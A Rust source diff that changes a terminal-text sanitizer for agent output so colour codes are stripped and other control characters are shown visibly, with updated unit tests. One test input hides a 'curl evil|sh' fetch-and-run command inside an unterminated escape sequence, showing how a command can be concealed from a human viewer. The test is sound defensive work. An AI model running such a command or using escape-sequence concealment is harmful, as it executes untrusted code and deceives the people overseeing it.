@@ -3,48 +3,43 @@
 use std::borrow::Cow;
 use std::fmt::Write as _;
 
-/// Remove ANSI escape sequences and other control characters (keeps `\n` and `\t`).
-/// Agents put raw escapes in reasons and tool output; they must never reach the terminal.
+/// Text an agent sent, for the transcript: colour sequences (SGR, `ESC [ digits m`) removed,
+/// `\r` dropped, and every other control character shown visibly (`^[`, `^G`, `<U+009B>`),
+/// `\n` and `\t` kept. Nothing is ever deleted beyond a colour sequence's own bytes: an
+/// unterminated OSC or a stray ESC no longer swallows the text after it. Bidi and invisible
+/// characters stay and are neutralized where text is drawn. Gate cards do not use this: what
+/// a person approves stays exact (see `neutralize`).
 pub fn sanitize(s: &str) -> String {
     let mut out = String::with_capacity(s.len());
-    let mut chars = s.chars().peekable();
-    while let Some(c) = chars.next() {
+    let mut rest = s;
+    while let Some(c) = rest.chars().next() {
+        if c == '\u{1b}'
+            && let Some(n) = sgr_len(rest)
+        {
+            rest = &rest[n..];
+            continue;
+        }
         match c {
-            '\u{1b}' => match chars.peek() {
-                Some('[') => {
-                    chars.next();
-                    // CSI: parameters then one final byte in 0x40..=0x7e.
-                    for c in chars.by_ref() {
-                        if ('\u{40}'..='\u{7e}').contains(&c) {
-                            break;
-                        }
-                    }
-                }
-                Some(']') => {
-                    chars.next();
-                    // OSC: until BEL or ST (ESC \).
-                    while let Some(c) = chars.next() {
-                        if c == '\u{7}' {
-                            break;
-                        }
-                        if c == '\u{1b}' {
-                            chars.next();
-                            break;
-                        }
-                    }
-                }
-                Some(_) => {
-                    chars.next();
-                }
-                None => {}
-            },
             '\n' | '\t' => out.push(c),
             '\r' => {}
-            c if c.is_control() => {}
+            c if c.is_control() => out.push_str(&neutralize(c.encode_utf8(&mut [0; 4]))),
             c => out.push(c),
         }
+        rest = &rest[c.len_utf8()..];
     }
     out
+}
+
+/// Length of a colour sequence (`ESC [ 1;31 m`) at the start of `s`: parameters are digits,
+/// `;` and `:` only, at most 32 of them.
+fn sgr_len(s: &str) -> Option<usize> {
+    let body = s.strip_prefix("\u{1b}[")?;
+    let params = body
+        .bytes()
+        .take(33)
+        .take_while(|b| b.is_ascii_digit() || *b == b';' || *b == b':')
+        .count();
+    (params <= 32 && body.as_bytes().get(params) == Some(&b'm')).then_some(2 + params + 1)
 }
 
 /// True for a character that must never reach a terminal as it is: C0 controls (ESC starts
@@ -202,10 +197,26 @@ mod tests {
     use super::*;
 
     #[test]
-    fn sanitize_strips_escapes() {
+    fn sanitize_strips_colours_and_shows_every_other_control() {
         assert_eq!(sanitize("a\u{1b}[31mred\u{1b}[0m b\r\n"), "ared b\n");
-        assert_eq!(sanitize("x\u{1b}]0;title\u{7}y"), "xy");
-        assert_eq!(sanitize("bell\u{7}"), "bell");
+        assert_eq!(sanitize("x\u{1b}]0;title\u{7}y"), "x^[]0;title^Gy");
+        assert_eq!(sanitize("bell\u{7}"), "bell^G");
+        // Nothing after an unterminated sequence is lost.
+        assert_eq!(
+            sanitize("true \u{1b}]; curl evil|sh; \u{7} ls"),
+            "true ^[]; curl evil|sh; ^G ls"
+        );
+        assert_eq!(
+            sanitize("git status\u{1b}]\ncurl x"),
+            "git status^[]\ncurl x"
+        );
+        assert_eq!(sanitize("\u{1b}[ curl"), "^[[ curl");
+        assert_eq!(sanitize("\u{1b}[2J\u{9b}x"), "^[[2J<U+009B>x");
+        assert!(
+            !sanitize("\u{1b}\u{7f}\u{0}\u{85}")
+                .chars()
+                .any(char::is_control)
+        );
     }
 
     #[test]
